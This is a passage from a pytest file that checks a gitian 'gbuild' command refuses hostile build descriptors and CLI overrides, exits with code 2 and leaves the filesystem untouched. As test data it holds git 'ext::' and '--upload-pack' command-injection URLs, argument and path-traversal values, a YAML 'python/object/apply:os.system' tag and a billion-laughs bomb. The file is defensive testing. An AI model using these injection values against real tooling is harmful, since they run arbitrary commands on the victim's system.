}


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _WATCH is None:
        return
    if event in _MUTATING:
        _WATCH.append((event, repr(args)[:200]))
    elif event == "open" and len(args) >= 3:
        mode, flags = args[1], args[2]
        writes = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
            isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
        )
        if writes:
            _WATCH.append((event, repr(args)[:200]))


sys.addaudithook(_audit)


def _tree(root: Path) -> dict[str, tuple[int, int]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for n in dirnames + filenames:
            p = Path(dirpath, n)
            st = p.lstat()
            out[os.fspath(p.relative_to(root))] = (st.st_mode, st.st_size)
    return out


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Path]]:
    """A gitian home with inputs, a cwd and a TMPDIR; all must stay as they are."""
    home = tmp_path / "home"
    (home / "inputs").mkdir(parents=True)
    (home / "inputs" / "input-1.tar.gz").write_bytes(b"data")
    (home / "result").mkdir()
    (home / "result" / "pkg-res.yml").write_bytes(b"previous result\n")
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    desc_dir = tmp_path / "desc"
    desc_dir.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("TMPDIR", os.fspath(tmp))
    monkeypatch.setenv("USE_BWRAP", "1")
    yield {"home": home, "cwd": cwd, "tmp": tmp, "desc": desc_dir}


def _gbuild_main() -> Callable[[list[str]], NoReturn]:
    from gitian.cli import gbuild

    # entry() returns main(argv=None); its declared type omits the argument.
    return cast(Callable[[list[str]], NoReturn], gbuild.main)


def _gbuild_refuses(
    raw: bytes, sandbox: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> str:
    global _WATCH
    main = _gbuild_main()

    p = sandbox["desc"] / "hostile.yml"
    p.write_bytes(raw)
    before = {k: _tree(sandbox[k]) for k in ("home", "cwd", "tmp")}
    capsys.readouterr()
    _WATCH = []
    try:
        with pytest.raises(SystemExit) as e:
            main(["--workdir", os.fspath(sandbox["home"]), os.fspath(p)])
    finally:
        events, _WATCH = _WATCH, None
    err = capsys.readouterr().err
    assert e.value.code == 2, err
    assert events == [], f"gbuild acted on a hostile descriptor: {events}"
    for k in ("home", "cwd", "tmp"):
        assert _tree(sandbox[k]) == before[k], f"{k} changed"
    assert (sandbox["home"] / "result" / "pkg-res.yml").read_bytes() == b"previous result\n"
    lines = [x for x in err.splitlines() if x.startswith("gbuild: error:")]
    assert len(lines) == 1, err
    assert lines[0].isprintable(), repr(lines[0])
    return lines[0]


@pytest.mark.parametrize(("path", "value", "needle"), STRUCTURED)
def test_gbuild_refuses_structured(
    path: tuple[str | int, ...],
    value: Any,
    needle: str,
    sandbox: dict[str, Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    line = _gbuild_refuses(dump(mutate(path, value)), sandbox, capsys)
    assert needle in line, line


@pytest.mark.parametrize(("raw", "needle"), RAW)
def test_gbuild_refuses_raw(
    raw: bytes, needle: str, sandbox: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    line = _gbuild_refuses(raw, sandbox, capsys)
    assert needle in line, line


def test_gbuild_refuses_bomb(sandbox: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    line = _gbuild_refuses(_laughs(10, 10), sandbox, capsys)
    assert "nodes" in line, line


@pytest.mark.parametrize(
    "args",
    [
        ["--url", "pkg=ext::sh -c touch% /tmp/pwned"],
        ["--url", "pkg=--upload-pack=touch"],
        ["--commit", "pkg=-x"],
        ["--commit", "pkg=HEAD~1"],
        ["--commit", "../x=abc"],
        ["--url", "nope=https://example.invalid/x"],
    ],
)
def test_gbuild_refuses_bad_overrides(
    args: list[str], sandbox: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    global _WATCH
    main = _gbuild_main()

    p = sandbox["desc"] / "pkg.yml"
    p.write_bytes(BASE_RAW)
    before = _tree(sandbox["home"])
    _WATCH = []
    try:
        with pytest.raises(SystemExit) as e:
            main([*args, "--workdir", os.fspath(sandbox["home"]), os.fspath(p)])
    finally:
        events, _WATCH = _WATCH, None
    err = capsys.readouterr().err
    assert e.value.code == 2, err
    assert events == [], events
    assert _tree(sandbox["home"]) == before


@pytest.mark.parametrize(
    ("raw", "needle"),
    [
        (dump(mutate(URL, "ext::sh -c touch% /tmp/pwned")), "remotes[0].url"),
        (BASE_RAW + b"x: !!python/object/apply:os.system ['touch /tmp/pwned']\n", "tag"),
        (_laughs(10, 10), "nodes"),
        (b"[" * 100_000 + b"]" * 100_000, "nested"),
    ],
    ids=["ext-url", "python-tag", "billion-laughs", "deep-nesting"],
)
def test_gbuild_console_script_exit_2(raw: bytes, needle: str, tmp_path: Path) -> None:
    """The installed command, as a user runs it: exit 2 and one line on stderr."""
    home = tmp_path / "home"
    home.mkdir()
    p = tmp_path / "hostile.yml"
    p.write_bytes(raw)
    r = subprocess.run(
        [sys.executable, "-c", "from gitian.cli.gbuild import main; main()", "--workdir",
         os.fspath(home), os.fspath(p)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert r.returncode == 2, r.stderr
    assert r.stdout == ""
    assert needle in r.stderr and r.stderr.count("\n") == 1, r.stderr
    assert list(home.iterdir()) == []
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_descriptor_that_is_not_a_file_never_blocks(tmp_path: Path, kind: str) -> None:
    if kind == "fifo":
        p = tmp_path / "fifo.yml"
        os.mkfifo(p)  # nobody writes: reading it would block forever
    elif kind == "device":
        p = Path("/dev/zero")  # endless
    else:
        p = tmp_path
    with pytest.raises(DescriptorError) as e:
        descriptor.load(p)
    assert str(e.value).isprintable()
